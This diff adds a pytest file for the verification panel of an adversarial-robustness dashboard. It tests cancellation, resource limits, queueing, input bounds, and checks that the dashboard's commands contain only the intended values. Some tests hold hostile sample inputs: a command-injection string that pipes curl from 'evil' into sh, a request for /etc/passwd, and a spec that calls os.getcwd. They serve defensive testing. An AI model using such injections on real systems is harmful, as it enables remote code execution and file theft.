@@ -1,0 +1,232 @@
+"""Verification from the page: the same figure as the core's own, bounded, cancellable, honest about doubt."""
+
+import json
+import shlex
+import subprocess
+import sys
+import threading
+import time
+
+import numpy as np
+import pytest
+import torch
+
+from mnuts_core import LogitBundle, MixConfig, MixedClassifier, MixParams, RemixEngine, evaluate
+from mnuts_core.errors import MnutsError
+from mnuts_core.models.specs import load_model
+from mnuts_dashboards.verification import run as run_verification
+from mnuts_dashboards.verification.panel import Verifier
+from mnuts_dashboards.verification.queue import Place
+from mnuts_dashboards.verification.run import Request, Verification, command, why_not
+from mnuts_dashboards.verification.worker import _Progress
+from mnuts_dashboards.widgets.background import Cancelled
+from tests.synthetic import clean_only
+
+N, STEPS = 12, 2
+
+
+@pytest.fixture(scope="module")
+def engine(digits):
+    return RemixEngine(digits)
+
+
+@pytest.fixture(scope="module")
+def config(engine):
+    return MixConfig.from_remix(engine, MixParams(s=5, p=3.5, c=-0.3))
+
+
+@pytest.fixture(scope="module")
+def request_(engine, config):
+    return Request(config, engine.bundle, N, STEPS)
+
+
+def with_specs(bundle, spec):
+    card = bundle.manifest.rob_model.model_copy(update={"spec": spec})
+    manifest = bundle.manifest.model_copy(update={"rob_model": card})
+    return LogitBundle.from_arrays(
+        clean_labels=bundle.clean_labels,
+        clean_std_logits=bundle.clean_std_logits,
+        clean_rob_logits=bundle.clean_rob_logits,
+        adv_index=bundle.adv_index,
+        adv_std_logits=bundle.adv_std_logits,
+        adv_rob_logits=bundle.adv_rob_logits,
+        manifest=manifest,
+    )
+
+
+@pytest.mark.slow
+def test_the_result_is_the_cores_own(engine, config, request_, tmp_path):
+    shares = []
+    result = Verification(request_).work(shares.append)
+    assert shares == sorted(shares)
+    assert shares[-1] == 1.0
+    bundle = engine.bundle
+    rows = bundle.adv_index[:N]
+    images = torch.from_numpy(bundle.clean_images[rows]).permute(0, 3, 1, 2).contiguous() / 255.0
+    std, rob = (load_model(f"demo:digits/{role}").module for role in ("std", "rob"))
+    mix = MixedClassifier.from_config(config.save(tmp_path / "c.json"), std, rob)
+    labels = torch.from_numpy(bundle.clean_labels[rows])
+    own = evaluate(mix, images, labels, norm="Linf", eps=config.threat.eps, n_iter=STEPS, batch_size=50)
+    assert result.verified.accuracy.value == own.accuracy.value
+    assert result.verified.digest == own.digest
+    assert result.verified.accuracy.n == N
+    assert any("few-steps" in warning for warning in result.verified.warnings)
+    assert result.params == config.params
+
+
+@pytest.mark.slow
+def test_cancel_ends_the_process_at_once(engine, config):
+    run = Verification(Request(config, engine.bundle, 500, 100))
+    threading.Timer(0.5, run.cancel).start()
+    begun = time.monotonic()
+    with pytest.raises(Cancelled):
+        run.work(lambda share: None)
+    assert time.monotonic() - begun < 10
+    assert run._process.poll() is not None
+
+
+@pytest.mark.slow
+def test_other_images_than_the_bundles_are_refused(engine, config, tmp_path):
+    file = tmp_path / "other.npz"
+    labels = (engine.bundle.clean_labels[:N] + 1) % 10
+    np.savez(file, images=engine.bundle.clean_images[:N], labels=labels)
+    with pytest.raises(MnutsError, match=r"holds other images than the bundle: 12 of 12 labels differ"):
+        Verification(Request(config, engine.bundle, N, STEPS, f"npz:{file}")).work(lambda share: None)
+
+
+def test_what_is_not_at_hand_is_told(engine, bundle):
+    assert why_not(engine.bundle) is None
+    assert "no threat model" in why_not(bundle)
+    assert "no threat model" in why_not(clean_only(bundle))
+    assert "file:x.pt@os:getcwd is not at hand" in why_not(with_specs(engine.bundle, "file:x.pt@os:getcwd"))
+    named = with_specs(engine.bundle, "timm:resnet18@weights.pt")
+    assert why_not(named) is None
+    assert "is not at hand" in why_not(named, trusted=False)
+
+
+def test_the_command_names_models_images_and_strength(request_):
+    assert command(request_) == (
+        "mnuts evaluate CONFIG.json --std demo:digits/std --rob demo:digits/rob --data digits "
+        f"--n {N} --n-iter {STEPS} --batch-size 50"
+    )
+
+
+def test_text_from_a_bundle_is_no_part_of_a_command(request_, bundle):
+    evil = "demo:digits/std; curl evil|sh #"
+    hostile = request_._replace(bundle=with_specs(request_.bundle, evil))
+    assert "is not at hand" in why_not(hostile.bundle)
+    assert "is not at hand" in why_not(hostile.bundle, trusted=False)
+    words = shlex.split(command(hostile))
+    assert words[words.index("--rob") + 1] == evil
+    assert words[:3] == ["mnuts", "evaluate", "CONFIG.json"]
+
+
+def test_progress_grows_from_nothing_to_nearly_all():
+    progress = _Progress(n_iter=10, classes=10)
+    shares = []
+    for done in range(10):
+        for ticks in (1, 50, 5000):
+            progress._component, progress._ticks = done, ticks
+            shares.append(progress.share(done, 10))
+    assert shares == sorted(shares)
+    assert 0 < shares[0] < 0.01
+    assert shares[-1] < 1
+    assert progress.share(5, 10) == pytest.approx(0.5, abs=0.1)
+
+
+@pytest.mark.slow
+def test_a_process_that_takes_too_much_memory_or_time_is_ended(engine, config, monkeypatch):
+    run = Verification(Request(config, engine.bundle, 500, 100))
+    monkeypatch.setattr(run_verification, "MAX_HOURS", 1 / 3600)
+    with pytest.raises(MnutsError, match="it took more than 0"):
+        run.work(lambda share: None)
+    assert run._process.poll() is not None
+    code = "from mnuts_dashboards.verification.worker import _end_above; _end_above(1000)"
+    ended = subprocess.run([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
+    assert ended.returncode == 4
+    assert "took more than 0 MiB" in json.loads(ended.stdout)["error"]
+
+
+def test_a_run_waits_for_its_turn_and_gives_up_its_place_when_it_is_cancelled(engine, config, tmp_path):
+    befores = []
+
+    def report(share):
+        befores.append(run.before)
+        run.cancel()
+
+    with Place(tmp_path), Place(tmp_path):
+        run = Verification(Request(config, engine.bundle, N, STEPS), Place(tmp_path))
+        with pytest.raises(Cancelled):
+            run.work(report)
+    assert befores == [2]
+    assert run._process is None
+    with Place(tmp_path) as next_one:
+        assert next_one.before() == 0
+
+
+class TestVerifier:
+    @pytest.fixture
+    def told(self):
+        return []
+
+    @pytest.fixture
+    def verifier(self, engine, config, told):
+        made = Verifier(lambda: config, lambda: told.append("changed"), told.append)
+        made.use(engine, trusted=True)
+        return made
+
+    @pytest.mark.slow
+    def test_a_run_gives_a_result_for_this_very_mix(self, verifier, config, told):
+        verifier.n.value, verifier.steps.value = N, STEPS
+        verifier.start.click()  # no event loop: it is done at once
+        assert told == ["changed"]
+        known = verifier.results.of(config.params)
+        assert (known.verified.kind, known.verified.n) == ("verified", N)
+        assert verifier.results.of(config.params.with_(c=0.1)) is None
+        assert "on the same images: margin bound" in verifier.told.value
+        assert "mnuts evaluate" in verifier.told.value
+        assert not verifier.running
+
+    def test_a_bundle_without_models_disables_the_button(self, verifier, bundle):
+        verifier.use(RemixEngine(bundle), trusted=True)
+        assert verifier.start.disabled
+        assert "the bundle names no threat model" in verifier.told.value
+
+    def test_a_page_cannot_start_what_its_button_does_not_offer(self, verifier, engine, monkeypatch):
+        """A page can send any click."""
+        asked = []
+        monkeypatch.setattr("mnuts_dashboards.verification.panel.Verification", asked.append)
+        verifier.use(RemixEngine(with_specs(engine.bundle, "file:x.pt@os:getcwd")), trusted=False)
+        verifier.start.disabled = False
+        verifier.start.click()
+        assert asked == []
+
+    def test_numbers_are_bounded_whatever_a_page_sends(self, verifier, engine, monkeypatch):
+        asked = []
+
+        class FakeRun:
+            def __init__(self, request):
+                asked.append(request)
+                raise MnutsError("enough")
+
+        monkeypatch.setattr("mnuts_dashboards.verification.panel.Verification", FakeRun)
+        verifier.n.max = verifier.steps.max = 10**9
+        verifier.n.value = verifier.steps.value = 10**9
+        verifier.start.click()
+        assert (asked[0].n, asked[0].n_iter) == (engine.bundle.n_adv, 100)
+
+    def test_on_a_shared_server_no_visitor_names_files(self, verifier, monkeypatch):
+        monkeypatch.setenv("MNUTS_SHARED", "1")
+        monkeypatch.setenv("MNUTS_IMAGES", "digits")
+        verifier.data.value = "npz:/etc/passwd"
+        assert verifier._images() == "digits"
+        monkeypatch.delenv("MNUTS_SHARED")
+        assert verifier._images() == "npz:/etc/passwd"
+
+    def test_the_place_in_the_line_is_shown(self, verifier, request_):
+        run = verifier._run = Verification(request_)
+        shown = (2, "2 verifications of other visitors"), (1, "1 verification of"), (0, "Attacking")
+        for before, words in shown:
+            run.before = before
+            verifier._on_progress(0.0)
+            assert words in verifier.told.value
